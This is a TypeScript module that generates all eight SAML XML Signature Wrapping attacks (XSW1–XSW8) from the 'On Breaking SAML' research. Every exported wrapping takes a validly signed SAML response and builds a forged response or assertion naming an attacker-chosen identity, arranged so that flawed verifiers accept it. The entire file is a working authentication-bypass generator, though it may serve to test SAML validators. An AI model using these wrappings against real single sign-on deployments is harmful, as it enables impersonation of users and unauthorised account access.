/**
 * The eight known ways to move a signed part of a SAML answer to where it is not read, and to put another in its place
 * (Somorovsky and others, On Breaking SAML, 2012). The forged part names `evil` instead of `good`.
 */

export interface Wrapping {
  readonly name: string
  /** What has to be signed in the answer that is wrapped. */
  readonly signed: 'response' | 'assertion'
  wrap(xml: string, good: string, evil: string): string
}

interface Parts {
  readonly signature: string
  /** Signed, and without its signature. */
  readonly original: string
  readonly bare: string
  /** Unsigned, under another ID. */
  readonly forged: string
}

function partsOf(xml: string, element: RegExp, good: string, evil: string): Parts {
  const original = element.exec(xml)?.[0] ?? ''
  const signature = /<ds:Signature [\s\S]*?<\/ds:Signature>/.exec(original)?.[0] ?? ''
  if (signature === '') throw new Error('nothing is signed')
  const bare = original.replace(signature, '')
  const forged = bare.replaceAll(good, evil).replace(/ ID="[^"]*"/, ' ID="_forged"')
  return { signature, original, bare, forged }
}

const ofResponse = (name: string, build: (parts: Parts) => string): Wrapping => ({
  name,
  signed: 'response',
  wrap: (xml, good, evil) => build(partsOf(xml, /<samlp:Response[\s\S]*<\/samlp:Response>/, good, evil)),
})

const ofAssertion = (name: string, build: (parts: Parts) => string): Wrapping => ({
  name,
  signed: 'assertion',
  wrap: (xml, good, evil) => {
    const parts = partsOf(xml, /<saml:Assertion[\s\S]*<\/saml:Assertion>/, good, evil)
    return xml.replace(parts.original, () => build(parts))
  },
})

const insideSignature = (signature: string, content: string): string =>
  signature.replace('</ds:Signature>', () => `<ds:Object>${content}</ds:Object></ds:Signature>`)

const afterIssuer = (xml: string, content: string): string =>
  xml.replace('</saml:Issuer>', () => `</saml:Issuer>${content}`)

const atEnd = (xml: string, content: string): string => {
  const at = xml.lastIndexOf('</')
  return xml.slice(0, at) + content + xml.slice(at)
}

export const WRAPPINGS: readonly Wrapping[] = [
  ofResponse('XSW1: the signed response inside its signature, in a forged response', (parts) =>
    afterIssuer(parts.forged, insideSignature(parts.signature, parts.bare)),
  ),
  ofResponse('XSW2: the signed response before its signature, in a forged response', (parts) =>
    afterIssuer(parts.forged, parts.bare + parts.signature),
  ),
  ofAssertion('XSW3: a forged assertion before the signed one', (parts) => parts.forged + parts.original),
  ofAssertion('XSW4: the signed assertion in a forged one', (parts) => atEnd(parts.forged, parts.original)),
  ofAssertion(
    'XSW5: a forged assertion with the signature of one that follows',
    (parts) => afterIssuer(parts.forged, parts.signature) + parts.bare,
  ),
  ofAssertion('XSW6: the signed assertion inside its signature, in a forged one', (parts) =>
    afterIssuer(parts.forged, insideSignature(parts.signature, parts.bare)),
  ),
  ofAssertion(
    'XSW7: a forged assertion in an extension',
    (parts) => `<samlp:Extensions>${parts.forged}</samlp:Extensions>${parts.original}`,
  ),
  ofAssertion('XSW8: the signed assertion in an object of a forged one', (parts) =>
    afterIssuer(
      parts.forged,
      `${parts.signature}<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${parts.bare}</ds:Object>`,
    ),
  ),
]
